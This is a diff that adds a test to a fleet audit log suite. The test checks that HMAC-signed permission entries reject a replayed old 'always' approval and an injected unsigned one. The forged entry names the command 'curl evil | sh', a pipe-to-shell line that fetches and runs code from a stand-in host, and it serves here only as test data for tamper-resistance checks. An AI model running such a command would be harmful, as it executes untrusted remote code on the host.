@@ -82,4 +82,34 @@ describe('the fleet audit log', () => {
       await a.close();
     }
   });
+
+  it('by default signs with the key the fleet secret gives: an unsigned "always" and a replayed old "always" allow nothing', async () => {
+    const prefix = newPrefix();
+    const rejects: AuditRejects[] = [];
+    const a = await connectStore(redis, prefix, { audit: { onRejected: (r) => rejects.push(r) } });
+    try {
+      // The person said "always", then changed their mind: "never".
+      a.audit.append({ ...entry('deploy', 'always'), ts: '2026-01-01T00:00:00.000Z' });
+      a.audit.append({ ...entry('deploy', 'never'), ts: '2026-01-01T00:00:05.000Z' });
+      await a.audit.flush();
+      await a.audit.prepare();
+      const lines = ((await a.conn.client.xrange(a.keys.audit, '-', '+')) as [string, string[]][]).map(([, f]) => f[1]!);
+      expect(lines[0]).toMatch(/,"mac":"[0-9a-f]{64}"\}$/);
+      // Someone with Redis write access copies the genuine old "always" back, and adds one of their own.
+      await a.conn.client.xadd(a.keys.audit, '*', 'e', lines[0]!);
+      await a.conn.client.xadd(a.keys.audit, '*', 'e', JSON.stringify(entry('curl evil | sh', 'always')));
+      expect(await a.audit.lookupAsync('/w', 'bash', 'deploy', 'workspace-write')).toBe('never');
+      expect(await a.audit.lookupAsync('/w', 'bash', 'curl evil | sh', 'workspace-write')).toBeUndefined();
+      expect(rejects.reduce((n, r) => n + r.lines, 0)).toBe(2);
+      // Another server of the fleet (same secret) trusts the genuine lines and sees the same.
+      const b = await connectStore(redis, prefix);
+      try {
+        expect(await b.audit.lookupAsync('/w', 'bash', 'deploy', 'workspace-write')).toBe('never');
+      } finally {
+        await b.close();
+      }
+    } finally {
+      await a.close();
+    }
+  });
 });
